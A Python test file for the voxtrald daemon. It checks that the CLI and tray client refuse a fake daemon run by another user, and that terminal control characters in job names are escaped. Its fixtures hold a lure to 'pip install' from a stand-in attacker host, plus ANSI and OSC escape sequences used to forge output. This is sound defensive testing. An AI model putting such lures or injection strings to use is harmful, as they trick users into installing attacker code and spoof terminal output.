"""Clients talk only to a daemon of their own user (SO_PEERCRED), and print names safely.

Another user who can create the socket's folder (a pre-made `/tmp/voxtral-UID`
when XDG_RUNTIME_DIR is unset) can serve a fake daemon there. Here `nobody`
does exactly that: a stand-in server started with setpriv answers every
request with made-up text, including an "update" telling the user to run a
command. The real CLI (`python -m voxtrald`) and the tray's client must refuse
it; the same server run as ourselves is accepted, so the refusal is about the
uid and nothing else. Needs root (to become nobody); skipped otherwise.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tray.client import Offline, TrayClient

SERVER = r"""
import json, socketserver, sys
from http.server import BaseHTTPRequestHandler

BODY = json.dumps({
    "version": "9.9.9", "state": "idle", "instance": "x", "events_last_seq": 0,
    "folders": {"inbox": "https://evil.example/", "transcripts": "/nonexistent"},
    "update_available": True, "latest_version": "9.9.9", "current_version": "1.0.0",
    "checked_at": "now", "release_name": "run: pip install https://evil.example/x.whl",
}).encode()

class H(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(BODY)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(BODY)
    do_POST = do_GET
    def log_message(self, *a):
        pass

srv = socketserver.UnixStreamServer(sys.argv[1], H)
print("ready", flush=True)
srv.serve_forever()
"""


def _python_for_nobody() -> str | None:
    """An interpreter that user nobody may run (a venv under /root is out of its reach)."""
    for candidate in (sys.executable, "/usr/bin/python3", shutil.which("python3")):
        if candidate and subprocess.run(
            ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups",
             candidate, "-I", "-c", "pass"], capture_output=True, timeout=30,
        ).returncode == 0:
            return candidate
    return None


def _skip_reason() -> str | None:
    if not hasattr(os, "geteuid") or os.geteuid() != 0:
        return "needs root to run a server as user nobody"
    if shutil.which("setpriv") is None:
        return "needs setpriv (util-linux)"
    return None


class Server:
    def __init__(self, as_nobody: bool) -> None:
        self.folder = Path(tempfile.mkdtemp(prefix="voxtral-peer-"))
        self.socket = self.folder / "voxtrald.sock"
        cmd: list[str] = [sys.executable, "-I", "-c", SERVER, str(self.socket)]
        if as_nobody:
            python = _python_for_nobody()
            if python is None:
                pytest.skip("no Python interpreter that user nobody can run")
            os.chown(self.folder, 65534, 65534)
            cmd = ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups",
                   python, "-I", "-c", SERVER, str(self.socket)]
        self.proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        assert self.proc.stdout is not None
        assert self.proc.stdout.readline().strip() == b"ready", self.proc.stderr.read()
        os.chmod(self.socket, 0o777)  # let anyone connect: the check is who answers

    def stop(self) -> None:
        self.proc.terminate()
        self.proc.wait(10)
        shutil.rmtree(self.folder, ignore_errors=True)


@pytest.fixture
def server(request: pytest.FixtureRequest) -> Iterator[Server]:
    reason = _skip_reason()
    if reason and request.param:
        pytest.skip(reason)
    s = Server(as_nobody=request.param)
    yield s
    s.stop()


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "VOXTRAL_SOCKET"}
    env["VOXTRAL_CONFIG"] = "/nonexistent/config.toml"
    return subprocess.run([sys.executable, "-m", "voxtrald", *args], env=env,
                          capture_output=True, text=True, timeout=60)


@pytest.mark.parametrize("server", [True], indirect=True, ids=["nobody"])
def test_cli_and_tray_refuse_another_users_server(server: Server) -> None:
    for command in (["status"], ["check-update"], ["status", "--json"], ["jobs"]):
        proc = cli(*command, "--socket", str(server.socket))
        assert proc.returncode == 3, (command, proc.stdout, proc.stderr)
        assert proc.stdout == ""
        assert "refusing the server" in proc.stderr
        assert "runs as uid 65534, not as you (uid 0)" in proc.stderr
        assert "pip install" not in proc.stderr
    with pytest.raises(Offline, match="refusing the server"):
        TrayClient(server.socket).status()


@pytest.mark.parametrize("server", [False], indirect=True, ids=["ourselves"])
def test_the_same_server_run_by_ourselves_is_accepted(server: Server) -> None:
    proc = cli("status", "--socket", str(server.socket))
    assert proc.returncode == 0, proc.stderr
    assert "9.9.9" in proc.stdout
    assert TrayClient(server.socket).status().version == "9.9.9"


# -- untrusted names in human-readable output --------------------------------------------


def test_jobs_and_status_escape_control_characters(tmp_path: Path) -> None:
    """A name holding ESC and a newline, shown by `voxtrald jobs` and `status`, is escaped."""
    from tests.support.traybus.fake_daemon import FakeDaemon, current_job, job

    evil = "red\x1b[31mALERT\nvoxtrald: forged line.wav"
    fake = FakeDaemon(tmp_path / "voxtrald.sock", {"inbox": str(tmp_path / "in\x1b[2J")})
    try:
        fake.status["current_job"] = current_job(7, evil, 10.0)
        fake.status["state"] = "transcribing"
        fake.jobs = [job(7, "failed", evil, attempts=3, max_attempts=3,
                         error="bad\x1b]0;pwned\x07 data\nmore")]
        for command in ("status", "jobs"):
            proc = cli(command, "--socket", str(fake.socket_path))
            assert proc.returncode == 0, proc.stderr
            assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout
            assert "red\\x1b[31mALERT\\nvoxtrald: forged line.wav" in proc.stdout
            assert not any(line.startswith("voxtrald: forged") for line in proc.stdout.splitlines())
        assert "bad\\x1b]0;pwned\\x07 data\\nmore" in cli("jobs", "--socket",
                                                        str(fake.socket_path)).stdout
        # --json stays JSON, whose encoding escapes them too.
        out = cli("jobs", "--json", "--socket", str(fake.socket_path)).stdout
        assert "\x1b" not in out and "\\u001b" in out
    finally:
        fake.stop()
    assert fake.errors == []


